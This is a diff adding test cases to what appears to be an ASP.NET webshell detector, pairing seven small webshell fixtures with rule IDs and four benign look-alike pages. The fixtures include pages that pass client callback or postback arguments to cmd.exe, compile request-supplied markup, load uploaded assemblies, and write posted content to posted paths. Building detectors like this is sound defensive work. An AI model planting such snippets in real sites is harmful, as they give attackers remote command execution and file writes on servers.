@@ -284,3 +284,143 @@ BENIGN += [
 def test_benign_look_alike(name: str, code: str) -> None:
     report = run(name, code)
     assert medium_or_above(report) == [], [c.chain for c in report.capabilities]
+
+
+# A later round: page markup parsed at run time, assemblies created from a file, and the arguments
+# the page framework itself hands over from the client (docs/detection/webshell-code.md, "Markup,
+# assembly files, framework callbacks").
+SHELLS_LATER = [
+    (
+        "markup.aspx",
+        page('Holder.Controls.Add(ParseControl(Request.Form["m"]));'),
+        "EXH-WS-CODE-COMPILE",
+        ["form field 'm'", "ParseControl"],
+    ),
+    (
+        "markup-this.aspx",
+        page(
+            'var c = this.ParseControl(Encoding.UTF8.GetString(Convert.FromBase64String(Request.Headers["X-M"])));\nControls.Add(c);'
+        ),
+        "EXH-WS-CODE-COMPILE",
+        ["request header 'X-M'", "base64-decodes it"],
+    ),
+    (
+        "instance-from.aspx",
+        page('var o = Activator.CreateInstanceFrom(Request.Form["p"], "Tools.Run").Unwrap();\no.Equals(Context);'),
+        "EXH-WS-CODE-ASSEMBLY",
+        ["form field 'p'", "CreateInstanceFrom"],
+    ),
+    (
+        "unwrap-upload.aspx",
+        page(
+            'string dll = @"C:\\Windows\\Temp\\" + Request.Files[0].FileName;\n'
+            "Request.Files[0].SaveAs(dll);\n"
+            'AppDomain.CurrentDomain.CreateInstanceFromAndUnwrap(Request.Form["dll"], "P.Run");'
+        ),
+        "EXH-WS-CODE-ASSEMBLY",
+        ["form field 'dll'", "CreateInstanceFromAndUnwrap"],
+    ),
+    (
+        "callback.aspx",
+        """<%@ Page Language="C#" %>
+<%@ Implements Interface="System.Web.UI.ICallbackEventHandler" %>
+<script runat="server">
+string result;
+public void RaiseCallbackEvent(string eventArgument) {
+    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + eventArgument);
+    psi.UseShellExecute = false;
+    psi.RedirectStandardOutput = true;
+    result = System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
+}
+public string GetCallbackResult() { return result; }
+</script>""",
+        "EXH-WS-CODE-PROCESS",
+        ["client callback argument 'eventArgument'"],
+    ),
+    (
+        "postback.aspx",
+        """<%@ Page Language="VB" %>
+<%@ Implements Interface="System.Web.UI.IPostBackEventHandler" %>
+<script runat="server">
+Public Sub RaisePostBackEvent(ByVal eventArgument As String) Implements IPostBackEventHandler.RaisePostBackEvent
+    Shell("cmd.exe /c " & eventArgument)
+End Sub
+</script>""",
+        "EXH-WS-CODE-PROCESS",
+        ["postback event argument"],
+    ),
+    (
+        "postdata.ascx",
+        """<%@ Control Language="C#" %>
+<script runat="server">
+public bool LoadPostData(string postDataKey, System.Collections.Specialized.NameValueCollection postCollection) {
+    System.IO.File.WriteAllText(postCollection["to"], postCollection["body"]);
+    return false;
+}
+public void RaisePostDataChangedEvent() { }
+</script>""",
+        "EXH-WS-CODE-FILE-WRITE",
+        ["posted form 'postCollection'"],
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS_LATER, ids=[s[0] for s in SHELLS_LATER])
+def test_later_published_sink_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
+    assert_found(name, code, rule_id, words)
+
+
+BENIGN_LATER = [
+    (
+        "drive-list.aspx",
+        page(
+            "foreach (var d in System.IO.DriveInfo.GetDrives())\n"
+            "    Holder.Controls.Add(ParseControl(\"<asp:Label runat='server' Text='\" + d.Name + \"' />\"));\n"
+            "Holder.Controls.Add(Page.ParseControl(\"<asp:HyperLink runat='server' NavigateUrl='~/Default.aspx' Text='Home' />\"));"
+        ),
+    ),
+    (
+        "plugin-host.aspx",
+        page(
+            'var clock = Activator.CreateInstanceFrom(Server.MapPath("~/bin/Widgets.dll"), "Widgets.Clock").Unwrap();\n'
+            'var kind = Request.QueryString["w"] == "date" ? "Widgets.Date" : "Widgets.Clock";\n'
+            'var w = AppDomain.CurrentDomain.CreateInstanceFromAndUnwrap(Server.MapPath("~/bin/Widgets.dll"), kind);\n'
+            "Holder.Controls.Add((Control)w);"
+        ),
+    ),
+    (
+        "help-callback.aspx",
+        """<%@ Page Language="C#" %>
+<%@ Implements Interface="System.Web.UI.ICallbackEventHandler" %>
+<script runat="server">
+string result;
+public void RaiseCallbackEvent(string eventArgument) {
+    string topic = System.IO.Path.GetFileName(eventArgument);
+    result = System.IO.File.ReadAllText(Server.MapPath("~/App_Data/help/" + topic + ".txt"));
+}
+public string GetCallbackResult() { return Server.HtmlEncode(result); }
+public void RaisePostBackEvent(string eventArgument) {
+    Session["sort"] = eventArgument;
+    Grid.Sort(eventArgument, SortDirection.Ascending);
+}
+</script>""",
+    ),
+    (
+        "rating.ascx",
+        """<%@ Control Language="C#" %>
+<script runat="server">
+public int Stars;
+public bool LoadPostData(string postDataKey, System.Collections.Specialized.NameValueCollection postCollection) {
+    int.TryParse(postCollection[postDataKey], out Stars);
+    return true;
+}
+public void RaisePostDataChangedEvent() { }
+</script>""",
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code"), BENIGN_LATER, ids=[b[0] for b in BENIGN_LATER])
+def test_later_benign_look_alike(name: str, code: str) -> None:
+    report = run(name, code)
+    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]
